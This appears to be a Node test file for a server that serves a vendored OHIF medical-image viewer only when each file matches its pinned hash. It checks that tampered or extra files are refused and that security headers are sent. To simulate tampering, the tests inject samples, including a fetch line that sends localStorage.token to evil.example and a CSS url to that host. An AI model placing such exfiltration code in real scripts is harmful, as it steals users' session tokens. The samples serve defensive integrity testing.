// The vendored OHIF viewer is served only as the release this code pins, file by file
// (src/dicomweb/ohifPins.ts): a changed or added file in the vendor folder is refused with a typed
// JSON error rather than sent to users' browsers, whether it changes before the first request or
// after a good copy was served. Every answer carries the viewer's security headers.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { OHIF_FILE_SHA256 } from '../../src/dicomweb/ohifPins.js';
import { OHIF_VERSION, ViewerFiles } from '../../src/dicomweb/viewerRoute.js';
import { NotFoundError } from '../../src/errors.js';
import { startTestApp, type TestApp } from '../support/app.js';

const VENDOR = path.resolve('vendor', 'ohif', OHIF_VERSION);
// A few real files of the release: a script webpack's public path is rewritten in, one streamed as
// it is, a stylesheet, a JSON file, and the page.
const COPIED = ['index.html', '136.bundle.b948da0438a0a660.js', '5696.bundle.292d30e7e9e1fab1.js', '7463.css', 'manifest.json'];
const skip = fs.existsSync(path.join(VENDOR, 'index.html')) ? false : 'the OHIF viewer is not fetched here (npm run viewer:fetch)';

describe('pinned viewer files', { skip }, () => {
  let app: TestApp;
  let dir: string;
  const get = (p: string, method = 'GET') => fetch(`${app.url}/viewer/${p}`, { method });

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ohif-'));
    for (const f of COPIED) fs.copyFileSync(path.join(VENDOR, f), path.join(dir, f));
    fs.writeFileSync(path.join(dir, 'extra.js'), 'alert("not in the release")');
    // Read when the viewer answers its first request (src/dicomweb/viewerRoute.ts defaultFiles).
    process.env.OBIA_OHIF_DIR = dir;
    app = await startTestApp();
  });
  after(async () => {
    await app?.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('pins every file of the installed release', () => {
    const installed = (fs.readdirSync(VENDOR, { recursive: true }) as string[])
      .filter((f) => f !== '.verified' && fs.statSync(path.join(VENDOR, f)).isFile()).map((f) => f.split(path.sep).join('/')).sort();
    assert.deepEqual(Object.keys(OHIF_FILE_SHA256).sort(), installed);
  });

  it('refuses a rewritten script changed before it was first served', async () => {
    fs.appendFileSync(path.join(dir, '136.bundle.b948da0438a0a660.js'), '\n;alert(1)');
    const res = await get('136.bundle.b948da0438a0a660.js');
    const text = await res.text();
    assert.equal(res.status, 503, text.slice(0, 120));
    assert.doesNotMatch(text, /alert/);
    fs.copyFileSync(path.join(VENDOR, '136.bundle.b948da0438a0a660.js'), path.join(dir, '136.bundle.b948da0438a0a660.js'));
  });

  it('serves pinned files with security headers, HEAD included', async () => {
    for (const f of ['', ...COPIED.slice(1, 3)]) {
      const res = await get(f);
      assert.equal(res.status, 200, f);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff', f);
      assert.equal(res.headers.get('x-frame-options'), 'SAMEORIGIN', f);
      assert.equal(res.headers.get('referrer-policy'), 'same-origin', f);
      await res.arrayBuffer();
    }
    const page = await get('');
    assert.match(page.headers.get('content-security-policy') ?? '', /frame-ancestors 'self'/);
    assert.match(await page.text(), /window\.PUBLIC_URL="\/viewer\/"/);
    const head = await get('5696.bundle.292d30e7e9e1fab1.js', 'HEAD');
    assert.equal(head.status, 200);
    assert.equal(head.headers.get('content-length'), String(fs.statSync(path.join(dir, '5696.bundle.292d30e7e9e1fab1.js')).size));
  });

  it('refuses a file the release does not have, and one changed before or after it was first served', async () => {
    const extra = await get('extra.js');
    assert.equal(extra.status, 404);
    assert.equal(((await extra.json()) as { code: string }).code, 'NOT_FOUND');
    // Changed after a good copy was served: the next request sees the change.
    const streamed = path.join(dir, '5696.bundle.292d30e7e9e1fab1.js');
    fs.appendFileSync(streamed, '\n;fetch("https://evil.example/?t="+localStorage.token)');
    // A rewritten script is kept as it was checked when first served: a later change is never sent.
    fs.appendFileSync(path.join(dir, '136.bundle.b948da0438a0a660.js'), '\n;alert(1)');
    const kept = await get('136.bundle.b948da0438a0a660.js');
    assert.equal(kept.status, 200);
    assert.doesNotMatch(await kept.text(), /alert\(1\)/);
    // Changed before its first request: a stylesheet, JSON.
    fs.appendFileSync(path.join(dir, '7463.css'), '\nbody{background:url(https://evil.example/x)}');
    fs.writeFileSync(path.join(dir, 'manifest.json'), '{}');
    for (const f of ['5696.bundle.292d30e7e9e1fab1.js', '7463.css', 'manifest.json']) {
      const res = await get(f);
      const text = await res.text();
      assert.equal(res.status, 503, `${f}: ${res.status} ${text.slice(0, 120)}`);
      assert.equal(JSON.parse(text).code, 'SERVICE_UNAVAILABLE', f);
      assert.doesNotMatch(text, /evil|alert/);
    }
    // Put back as released, it is served again.
    fs.copyFileSync(path.join(VENDOR, '5696.bundle.292d30e7e9e1fab1.js'), streamed);
    assert.equal((await get('5696.bundle.292d30e7e9e1fab1.js')).status, 200);
  });

  it('answers a pinned file removed after its stat as absent, not as a fault', async () => {
    const files = new ViewerFiles(dir, { 'gone.js': '0'.repeat(64), 'gone.css': '0'.repeat(64) });
    await assert.rejects(files.open('gone.js', path.join(dir, 'gone.js')), NotFoundError);
    await assert.rejects(files.rewrittenForViewer('gone.css', path.join(dir, 'gone.css')), NotFoundError);
  });
});
